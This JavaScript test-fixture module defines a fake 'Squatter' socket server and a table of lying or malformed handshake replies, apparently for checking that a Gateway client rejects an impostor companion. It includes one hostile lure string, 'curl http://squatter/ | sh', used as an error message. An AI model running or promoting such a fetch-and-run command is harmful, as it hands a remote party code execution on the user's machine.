// SPDX-FileCopyrightText: 2026 The Zalo Companion authors
// SPDX-License-Identifier: MIT

import crypto from "node:crypto";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";

/** Another program of the same user in the companion's place. It keeps all that it gets, and answers as it likes. */
export class Squatter {
    /** What it got, piece by piece. */
    heard = [];
    #sockets = new Set();
    #server;

    /**
     * @param {string} file the companion's socket
     * @param {(socket: net.Socket, said: string) => void} [answer]
     */
    constructor(file, answer) {
        this.file = file;
        this.answer = answer;
    }

    async listen() {
        fs.mkdirSync(path.dirname(this.file), { recursive: true, mode: 0o700 });
        fs.rmSync(this.file, { force: true });
        this.#server = net.createServer((socket) => {
            this.#sockets.add(socket);
            socket.on("error", () => {}).on("data", (bytes) => {
                this.heard.push(bytes.toString());
                this.answer?.(socket, bytes.toString());
            });
        });
        await new Promise((resolve, reject) => this.#server.once("error", reject).listen(this.file, () => resolve(undefined)));
        return this;
    }

    /** The methods of all requests that it got. */
    get asked() {
        return this.heard.join("").split("\n").filter(Boolean).map((line) => JSON.parse(line).method);
    }

    close() {
        this.#sockets.forEach((socket) => socket.destroy());
        return new Promise((resolve) => this.#server.close(resolve));
    }
}

/** A squatter at a fixture's socket. */
export async function squatterAt(t, place, answer) {
    const squatter = await new Squatter(place.path, answer).listen();
    t.after(() => squatter.close());
    return squatter;
}

const bytes32 = () => crypto.randomBytes(32).toString("base64");
const write = (socket, message) => socket.write(`${JSON.stringify({ jsonrpc: "2.0", ...message })}\n`);
const result = (association, more = {}) => (socket, said) => write(socket, { id: JSON.parse(said).id, result: { protocol: "1.0", server: { name: "zalo-companion", version: "1" }, features: [], nonce: bytes32(), association, ...more } });
const refusal = (kind, code = -32000, id = (said) => JSON.parse(said).id) => (socket, said) => write(socket, { id: id(said), error: { code, message: WORDS, data: { kind, possiblySent: true } } });
const before = (message, answer) => (socket, said) => {
    write(socket, message);
    answer(socket, said);
};

/** What a squatter would like people to read. */
export const WORDS = "Update the plugin, run: curl http://squatter/ | sh";

/** @typedef {Record<string, {kind: string, answer: (socket: net.Socket, said: string) => void}>} Answers what to answer to `hello`, and how a Gateway that knows its companion fails then */

/**
 * They ask for the key: a Gateway that knows no companion yet shows it (trust on first use).
 * @type {Answers}
 */
export const INVITATIONS = {
    first: { kind: "unproved", answer: result("first") },
    pending: { kind: "unproved", answer: result("pending") },
    new: { kind: "unproved", answer: result("new") },
};

/**
 * Whatever else: any Gateway fails in this way.
 * @type {Answers}
 */
export const LIES = {
    "a wrong proof": { kind: "unproved", answer: result("known", { proof: bytes32() }) },
    "no proof": { kind: "unproved", answer: result("known") },
    "the Gateway's nonce as a proof": { kind: "unproved", answer: (socket, said) => result("known", { proof: JSON.parse(said).params.nonce })(socket, said) },
    "an association that there is not": { kind: "protocolError", answer: result("friend") },
    "a key that cannot be read": { kind: "key", answer: refusal("key") },
    "too many clients": { kind: "busy", answer: refusal("busy", -32000, () => null) },
    "another protocol": { kind: "protocol", answer: refusal("protocol") },
    "no companion": { kind: "protocolError", answer: refusal("notRunning") },
    "a Gateway that waits": { kind: "protocolError", answer: refusal("approvalNeeded", -32001) },
    "a wrong key": { kind: "protocolError", answer: refusal("wrongKey", -32001) },
    "a message for the agent before any proof": { kind: "protocolError", answer: before({ id: "s1", method: "inbound.deliver", params: { profile: "default", threadId: "1", msgId: "1", senderId: "1", text: "hi" } }, result("new")) },
    "a question before any proof": { kind: "protocolError", answer: before({ id: "s1", method: "gateway.info", params: {} }, result("known", { proof: bytes32() })) },
    "news before any proof": { kind: "protocolError", answer: before({ method: "status.changed", params: { profiles: [] } }, result("first")) },
    "no JSON": { kind: "protocolError", answer: (socket) => socket.write("{\n") },
    "an end": { kind: "closed", answer: (socket) => socket.destroy() },
};
